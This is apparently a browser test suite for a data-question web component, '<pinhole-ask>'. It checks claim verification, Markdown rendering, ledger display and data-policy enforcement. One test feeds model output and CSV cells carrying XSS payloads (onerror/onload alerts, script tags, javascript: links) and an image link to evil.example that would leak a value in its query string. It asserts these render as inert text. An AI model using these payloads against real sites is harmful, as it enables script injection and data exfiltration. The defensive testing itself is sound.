// <pinhole-ask> with an engine of the page's and a scripted endpoint: models that are right, lie,
// stand still and break off, markup that wants to be more than text, and what leaves the page.
import assert from "node:assert/strict";
import { test } from "node:test";
import { ENDPOINT, elementStage, page } from "./element-page.mjs";
import { call, fail, say } from "./endpoint.mjs";
import { CSV, found } from "./secrets.mjs";
import { BY_SHOP, PURCHASES } from "./tables.mjs";

const open = elementStage();
const files = { "purchases.csv": PURCHASES };
const MODEL = `src="purchases.csv" open endpoint="${ENDPOINT}" model="scripted"`;
const QUESTION = "which shop has the highest total amount?";

function talk(t, script, options = {}) {
  return open(t, { html: page({ attributes: MODEL }), files, script, ...options });
}

test("a true answer in Markdown: marked, streamed, and on the ledger byte for byte", async (t) => {
  const text =
    "Here are the totals.\n\n| shop | total |\n|---|---|\n| Vkusno | **912** |\n| Zarya | 78.25 |\n\nVkusno has the highest total, 912.";
  const scene = await talk(t, [call("query", BY_SHOP), say(text, { hang: 7 })]);
  await scene.ready();
  assert.match(await scene.id("privacy").textContent(), /127\.0\.0\.1/);
  const turn = await scene.begin(QUESTION);
  await scene.id("answer", turn).and(scene.page.locator("[draft]")).waitFor();
  await scene.picture("30-draft");
  await scene.accessible("draft");
  scene.endpoint.release();
  await scene.settled(turn);
  const claims = await scene.claims(turn);
  assert.deepEqual(new Set(claims.map(([, verdict]) => verdict)), new Set(["verified"]));
  assert.ok(claims.filter(([one]) => one === "912").length >= 2, JSON.stringify(claims));
  assert.equal(await turn.locator("pinhole-answer table td strong mark").count(), 1);
  assert.doesNotMatch(await scene.unmarked(turn), /\d/);
  await scene.id("answer-copy", turn).getByRole("button").click();
  await scene.id("answer-copy", turn).getByText("Copied").waitFor();
  const copied = await scene.page.evaluate(() => navigator.clipboard.readText());
  assert.equal(copied, text, "as it was written");
  await scene.picture("31-markdown");
  await scene.accessible("Markdown");

  await scene.id("tab-sent", turn).click();
  await scene.id("ledger-entry", turn).nth(1).waitFor();
  for (const summary of await turn.locator("summary").all()) await summary.click();
  const shown = await scene.id("ledger-body", turn).allTextContents();
  assert.deepEqual(
    shown,
    scene.endpoint.bodies.map((body) => body.toString("utf8")),
  );
  assert.match(await scene.id("ledger-outcome", turn).textContent(), /Chain verified: 2/);
  assert.equal(await scene.id("ledger-level", turn).first().textContent(), "summaries");
  await scene.picture("32-ledger");
  await scene.accessible("ledger");
});

test("a model that lies: the number of the data stands in its place, and says so", async (t) => {
  const lie = say("Vkusno has the highest total, 921. The mood is 4711.");
  const scene = await talk(t, [call("query", BY_SHOP), lie, lie, lie]);
  const turn = await scene.ask(QUESTION);
  const claims = await scene.claims(turn);
  assert.ok(
    claims.some(([text, verdict]) => text === "912" && verdict === "corrected"),
    JSON.stringify(claims),
  );
  assert.ok(claims.some(([text, verdict]) => text === "4711" && verdict === "unverifiable"));
  assert.doesNotMatch(await scene.text(turn), /921/);
  assert.doesNotMatch(await scene.unmarked(turn), /\d/);
  await scene.id("claim", turn).filter({ hasText: "912" }).focus();
  await scene.id("claim-note", turn).filter({ hasText: "921" }).waitFor();
  await scene.id("claim-rows", turn).waitFor();
  const note = await scene.id("claim-note", turn).boundingBox();
  const body = await scene.page.locator("pinhole-ask .body").boundingBox();
  assert.ok(note.y >= body.y, "its head is in sight");
  await inSight(scene, turn);
  await scene.picture("33-corrected");
  await scene.accessible("corrected");
});

/** The open note, and its button, are within what is in sight of the panel. */
async function inSight(scene, turn) {
  const body = await scene.page.locator("pinhole-ask .body").boundingBox();
  for (const name of ["claim-note", "claim-evidence"]) {
    const box = await scene.id(name, turn).boundingBox();
    assert.ok(
      box.y >= body.y && box.y + box.height <= body.y + body.height,
      `${name}: ${JSON.stringify([box, body])}`,
    );
    assert.ok(box.x >= body.x && box.x + box.width <= body.x + body.width, name);
  }
}

test("a number that follows from others is marked with its formula", async (t) => {
  const words = "Vkusno sold for 912, 767 more than Sever.";
  const scene = await talk(t, [call("query", BY_SHOP), say(words)]);
  const turn = await scene.ask(QUESTION);
  assert.deepEqual(await scene.claims(turn), [
    ["912", "verified"],
    ["767", "derived"],
  ]);
  const mark = scene.id("claim", scene.id("answer", turn)).filter({ hasText: "767" });
  await mark.focus();
  const note = scene.id("claim-note", turn);
  await note.waitFor();
  assert.match(await note.innerText(), /sum_amount\[shop=Vkusno\] - sum_amount\[shop=Sever\]/);
  await scene.id("claim-rows", turn).waitFor();
  await inSight(scene, turn);
  await scene.picture("38-derived");
  await scene.accessible("derived");

  // Where there is hardly any room, what does not fit scrolls, by keys too.
  await scene.page.keyboard.press("Escape");
  await scene.page.setViewportSize({ width: 700, height: 430 });
  await mark.blur();
  await mark.focus();
  await scene.id("claim-rows", turn).waitFor();
  await inSight(scene, turn);
  const more = note.locator(".more");
  assert.ok(await more.evaluate((part) => part.scrollHeight > part.clientHeight && !part.tabIndex));
  await scene.picture("38-derived-low");
  await scene.accessible("derived, low");
  await more.focus();
  await scene.page.keyboard.press("End");
  await scene.page.waitForFunction(
    (part) => !part.classList.contains("cut"),
    await more.elementHandle(),
  );
});

test("markup of a model, of names and of cells is text", async (t) => {
  const evil = "<img src=x onerror=alert(1)><svg onload=alert(2)>";
  const table = `"sh<b onclick=alert(3)>op",amount\n"${evil}",500\n"javascript:alert(4)",412\n"[x](javascript:alert(5))",7\n`;
  const text = [
    `The highest total is 500. ${evil}`,
    "![secret](https://evil.example/?q=500)",
    "[a](javascript:alert(6)) [b](data:text/html,x) [c](https://example.org/500) <https://example.org/q>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<style>*{display:none}</style> <a href=https://evil.example onclick=alert(7) style=color:red>d</a>",
    "\ue000\ue100912\ue001 <script>alert(8)</script>",
  ].join("\n\n");
  const query = { table: "purchases", select: "max(amount)" };
  const scene = await talk(t, [call("query", query), say(text), say(text), say(text)], {
    files: { "purchases.csv": table },
  });
  const turn = await scene.ask("what is the highest amount?");
  const inside = await scene
    .id("answer", turn)
    .locator(".text")
    .evaluate((element) => ({
      names: [...new Set([...element.querySelectorAll("*")].map(({ localName }) => localName))],
      attributes: [
        ...new Set([...element.querySelectorAll("*")].flatMap((one) => one.getAttributeNames())),
      ],
      links: [...element.querySelectorAll("a")].map((link) => [
        link.href,
        link.textContent === link.href ? "" : link.nextElementSibling?.textContent,
      ]),
    }));
  for (const name of ["img", "svg", "form", "input", "style", "script", "button"]) {
    assert.ok(!inside.names.includes(name), name);
  }
  for (const name of inside.attributes) assert.doesNotMatch(name, /^on|style|src|action/, name);
  assert.ok(
    inside.links.some(([href]) => href === "https://example.org/q"),
    "what is an address itself",
  );
  for (const [href, shown] of inside.links) {
    assert.match(href, /^https:\/\/(example\.org|evil\.example)\//);
    assert.ok(["", `(${href})`].includes(shown), `${href} is shown: ${shown}`);
  }
  assert.ok((await scene.text(turn)).includes(evil), "it is shown as it was written");
  assert.ok(scene.log.every(({ url }) => !url.includes("evil")));
  await scene.picture("34-markup");
  for (const tab of ["query", "data", "sent"]) await scene.id(`tab-${tab}`, turn).click();
  const data = await scene.ask("total amount by sh<b onclick=alert(3)>op");
  for (const tab of ["data", "query", "answer"]) {
    await scene.id(`tab-${tab}`, data).click();
    assert.equal(await data.locator("img, svg, script, b[onclick]").count(), 0);
  }
});

test("a link shows its whole address, and one that holds a number is none", async (t) => {
  const scene = await talk(t, []);
  const shown = await scene.page.evaluate(async () => {
    const { markedNodes } = await import("/pinhole/element/marks.js");
    const { markdown } = await import("/pinhole/element/markdown.js");
    const host = document.body.appendChild(document.createElement("div"));
    /** What stands there and the links in it, where the numbers with four digits are claims. */
    const read = (text) => {
      const claims = [...text.matchAll(/\d{4}/g)].map(({ index, 0: number }) => ({
        text: number,
        start: index,
        end: index + 4,
        verdict: "verified",
      }));
      host.replaceChildren(markedNodes("en", text, claims, markdown).nodes);
      for (const sign of host.querySelectorAll(".sign")) sign.remove();
      const links = [...host.querySelectorAll("a")];
      return [
        host.textContent.trim(),
        links.map(({ href, rel }) => `${href} ${rel}`),
        host.querySelectorAll("mark").length,
      ];
    };
    return [
      "[open the details](https://evil.example/?v=1)",
      "<https://example.org/q>",
      "[https://good.example/](https://evil.example/a%20b)",
      "[](https://evil.example/)",
      "[see](https://evil.example/?v=4719) and 4719",
      "<https://evil.example/4719>",
      "[see][one]\n\n[one]: https://evil.example/4719",
      "[4719](https://example.org/)",
      "[see](javascript:alert(1))",
    ].map(read);
  });
  const rel = "noopener noreferrer nofollow";
  assert.deepEqual(shown, [
    ["open the details (https://evil.example/?v=1)", [`https://evil.example/?v=1 ${rel}`], 0],
    ["https://example.org/q", [`https://example.org/q ${rel}`], 0],
    [
      "https://good.example/ (https://evil.example/a%20b)",
      [`https://evil.example/a%20b ${rel}`],
      0,
    ],
    ["(https://evil.example/)", [`https://evil.example/ ${rel}`], 0],
    ["see (https://evil.example/?v=4719) and 4719", [], 2],
    ["https://evil.example/4719", [], 1],
    ["see (https://evil.example/4719)", [], 1],
    ["4719 (https://example.org/)", [`https://example.org/ ${rel}`], 1],
    ["see", [], 0],
  ]);
});

test("cancelled, failed, and answered without the endpoint", async (t) => {
  const scene = await talk(t, [say("It is", { hang: 1 }), fail(400), fail(400)], {
    expect: /400|Failed to load/,
  });
  await scene.ready();
  const turn = await scene.begin("total amount by shop");
  await scene.id("working", turn).waitFor();
  await scene.picture("35-waiting");
  await scene.accessible("waiting");
  await scene.id("cancel", turn).click();
  await scene.settled(turn);
  assert.equal(await scene.id("error", turn).getAttribute("data-code"), "cancelled");
  const failed = await scene.ask("total amount by shop");
  await scene.id("error", failed).waitFor();
  await scene.picture("36-failed");
  await scene.accessible("failed");
  const sent = scene.endpoint.bodies.length;
  await scene.id("ask_planner", failed).click();
  await scene.id("foot", failed).waitFor();
  // It answers in the place of what failed, and asks nobody.
  assert.match(await scene.text(failed), /912/);
  assert.match(await scene.id("foot", failed).textContent(), /built-in planner/);
  assert.equal(await scene.id("error", failed).count(), 0);
  assert.equal(await scene.page.locator("pinhole-turn").count(), 2);
  assert.equal(await scene.focused(), "panel-answer");
  assert.equal(scene.endpoint.bodies.length, sent);
  // What was sent before it failed is still told.
  await scene.id("tab-sent", failed).click();
  await scene.id("ledger-entry", failed).first().waitFor();
});

for (const [lang, said] of [
  ["en", "No model is named for this endpoint, nothing was sent: set model"],
  ["ru", "Для этого адреса не названа модель, ничего не отправлено: задайте model"],
]) {
  test(`${lang}: without the name of a model nothing is sent, and that is said`, async (t) => {
    const attributes = `src="purchases.csv" open endpoint="${ENDPOINT}"`;
    const script = [call("query", BY_SHOP), say("Vkusno: 912.")];
    const scene = await open(t, { html: page({ attributes, lang }), files, script });
    const turn = await scene.ask("total amount by shop");
    const error = scene.id("error", turn);
    assert.equal(await error.getAttribute("data-code"), "model_missing");
    assert.equal((await scene.id("error-message", turn).innerText()).trim(), said);
    await scene.picture(`39-no-model-${lang}`);
    // The planner needs none, nor does a statement.
    await scene.id("ask_planner", turn).click();
    await scene.id("foot", turn).waitFor();
    assert.match(await scene.text(turn), /912/);
    const statement = await scene.ask("SELECT count(*) AS n FROM purchases");
    assert.equal(await scene.id("error", statement).count(), 0);
    assert.equal(scene.endpoint.bodies.length, 0);
    if (lang === "ru") return;
    await scene.page.evaluate(() => (document.querySelector("pinhole-ask").model = "scripted"));
    const asked = await scene.ask(QUESTION);
    assert.equal(await scene.id("error", asked).count(), 0);
    assert.ok(scene.endpoint.bodies.length > 0);
  });
}

test("the page's own engine, its policy, and what never leaves", async (t) => {
  const module = `
    import { Pinhole } from "/pinhole/index.js";
    const policy = { level: "summary", columns: { "people.salary": "aggregate", "people.score": "aggregate", "people.name": "hidden" } };
    const ph = await Pinhole.open({ policy });
    await ph.load("people", new URL("people.csv", location.href), { classes: { email: "hidden" } });
    window.heard = [];
    for (const type of ["ask", "answer", "filter", "toggle", "evidence", "ready"]) {
      document.addEventListener("pinhole-" + type, () => window.heard.push(type));
    }
    const ask = document.querySelector("pinhole-ask");
    ask.ph = ph;
    ask.chatOptions = { endpoint: "${ENDPOINT}", model: "scripted" };
    ask.show();`;
  const script = [
    call("query", { table: "people", select: "max(salary)" }),
    call("query", { table: "people", group_by: "town", select: "mean(salary)" }),
    say("I was not told."),
    say("Nothing to add."),
  ];
  const scene = await open(t, {
    html: page({ attributes: "", script: true }),
    module,
    script,
    files: { "people.csv": CSV },
  });
  const turn = await scene.ask("what is the highest salary?");
  await scene.id("tab-data", turn).click();
  await scene.id("filter", turn).click();
  await scene.id("tab-sent", turn).click();
  await scene.id("said-withheld", turn).first().waitFor();
  const withheld = await scene.id("withheld", turn).innerText();
  assert.match(withheld, /people\.email: hidden/);
  assert.match(withheld, /people\.salary: only inside aggregates over at least 5 rows/);
  await scene.picture("37-withheld");
  await scene.accessible("withheld");
  // Completion reads the page's data; typing it is asking for nothing.
  await scene.id("question").fill("name sal");
  await scene.id("completion").first().waitFor();
  await scene.id("tab-query", turn).click();
  await scene.id("query-run", turn).click();
  await scene.id("query-outcome", turn).filter({ hasText: "Done" }).waitFor();
  await scene.ask("and now?");
  assert.deepEqual(
    new Set(await scene.page.evaluate(() => window.heard)),
    new Set(["ask", "answer", "filter", "toggle", "ready"]),
  );
  for (const { url, body } of scene.log) {
    assert.deepEqual(found(decodeURIComponent(url)), []);
    assert.deepEqual(found(body.toString("utf8")), []);
    assert.doesNotMatch(body.toString("utf8"), /zqmail|email/i);
  }
  assert.ok(scene.endpoint.bodies.length >= 3);
});
